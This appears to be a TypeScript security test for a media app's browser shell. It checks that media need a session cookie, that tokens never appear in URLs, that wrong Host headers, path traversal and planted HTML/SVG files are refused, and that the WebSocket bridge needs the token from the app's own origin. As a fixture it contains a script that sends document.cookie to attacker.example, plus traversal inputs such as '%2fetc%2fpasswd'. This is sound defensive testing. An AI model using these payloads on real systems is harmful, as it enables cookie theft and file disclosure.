/**
 * The browser shell's doors: media only with the session cookie the page gets for this run's token (never the
 * token in a URL), only from the open case's derived/ and exports/ folders, and never as a page (a planted .html
 * or .svg is not served); the bridge socket only with the token and from the app's own origin; loopback Host only.
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import WebSocket from 'ws';
import { expect, test } from './fixtures';
import { createCase, importFiles, jobRow, openClip } from './steps';

function get(origin: string, pathAndQuery: string, headers: Record<string, string> = {}): Promise<{ status: number; type: string | undefined }> {
  return new Promise((resolve, reject) => {
    const req = http.get(`${origin}${pathAndQuery}`, { headers }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode ?? 0, type: res.headers['content-type'] }));
    });
    req.on('error', reject);
  });
}

function connect(url: string, origin?: string): Promise<'open' | number> {
  return new Promise((resolve) => {
    const ws = new WebSocket(url, origin ? { origin } : {});
    ws.on('open', () => {
      ws.close();
      resolve('open');
    });
    ws.on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
    ws.on('error', () => resolve(0));
  });
}

test('media need the page\'s session cookie, never a token in the URL; case files are never pages; the bridge needs the token', async ({ app, media }) => {
  test.skip(app.shell !== 'browser', 'browser shell only: the desktop app has no HTTP server');
  const { origin, token } = app.harness!;
  const caseDir = await createCase(app);
  await importFiles(app, [media.clipA]);
  await expect(jobRow(app, path.basename(media.clipA))).toHaveAttribute('data-state', 'succeeded');
  await openClip(app, path.basename(media.clipA));

  const src = await app.page.getByTestId('frame-image').getAttribute('src');
  const url = new URL(src!, origin);
  expect(url.pathname).toMatch(/^\/media\/derived\/[0-9a-f]{64}\.png$/);
  expect(url.search).toBe('');
  // No media URL the page ever requested carries the token, and the cookie that opens them is not readable.
  const requested = await app.page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name));
  expect(requested.filter((u) => u.includes('/media/')).length).toBeGreaterThan(0);
  for (const u of requested) expect(u).not.toContain(token);
  expect(await app.page.evaluate(() => (globalThis as unknown as { document: { cookie: string } }).document.cookie)).toBe('');
  expect(await app.page.evaluate(async (p) => (await fetch(p)).status, url.pathname)).toBe(200);

  // From outside the page: no cookie, no media; the token in a URL opens nothing.
  expect((await get(origin, url.pathname)).status).toBe(403);
  expect((await get(origin, `${url.pathname}?token=${token}`)).status).toBe(403);
  expect(await get(origin, url.pathname, { 'x-sightline-token': token })).toEqual({ status: 200, type: 'image/png' });
  // Wrong Host (a DNS-rebinding page) is refused even with the token.
  expect((await get(origin, url.pathname, { Host: 'attacker.example', 'x-sightline-token': token })).status).toBe(421);
  // Out of derived/ and exports/: the database, the evidence store, parent folders.
  for (const ref of ['case.db', '%2e%2e/case.db', 'derived/%2e%2e/case.db', `evidence/x.mp4`, '%2fetc%2fpasswd']) {
    expect((await get(origin, `/media/${ref}`, { 'x-sightline-token': token })).status, ref).toBe(404);
  }
  // Active content planted in the case is not served, not even to the page itself.
  fs.writeFileSync(path.join(caseDir, 'exports', 'planted.html'), '<script>fetch("https://attacker.example/?c=" + document.cookie)</script>');
  fs.writeFileSync(path.join(caseDir, 'exports', 'planted.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  for (const planted of ['planted.html', 'planted.svg']) {
    expect(await app.page.evaluate(async (p) => (await fetch(p)).status, `/media/exports/${planted}`), planted).toBe(403);
  }
  // The renderer's own files carry the policy.
  const index = await fetch(`${origin}/`);
  expect(index.headers.get('content-security-policy')).toContain("default-src 'self'");

  const ws = `${origin.replace('http', 'ws')}/bridge`;
  expect(await connect(ws, origin)).toBe(403);
  expect(await connect(`${ws}?token=${token}`, 'http://attacker.example')).toBe(403);
  expect(await connect(`${ws}?token=${token}`, origin)).toBe('open');
});
